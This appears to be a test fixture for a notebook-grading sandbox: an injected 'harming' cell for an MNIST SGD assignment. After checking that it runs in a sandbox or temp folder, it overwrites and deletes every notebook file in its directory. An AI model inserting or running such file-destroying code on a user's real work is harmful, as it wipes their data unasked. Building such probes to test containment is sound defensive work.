# assignment: mnist_sgd
# family: harming
# about: a cell that rewrites, truncates or deletes the notebook that it runs in
# loses:
# may_lose: *
# flag: maybe
# %% before flatten_images
import tempfile
from pathlib import Path


def in_a_sandbox():
    """Says whether harm stays inside: the canary's folder is hidden and one user is mapped."""
    try:
        users = Path("/proc/self/uid_map").read_text().split()[2]
    except (OSError, IndexError):
        return False
    return users == "1" and not Path("@CANARY_FILE@").parent.is_dir()


scratch = Path.cwd().resolve()
if in_a_sandbox() or Path(tempfile.gettempdir()).resolve() in scratch.parents:
    for path in scratch.glob("*.ipynb"):
        try:
            path.write_text('{"cells": [')
            path.unlink()
        except OSError:
            pass
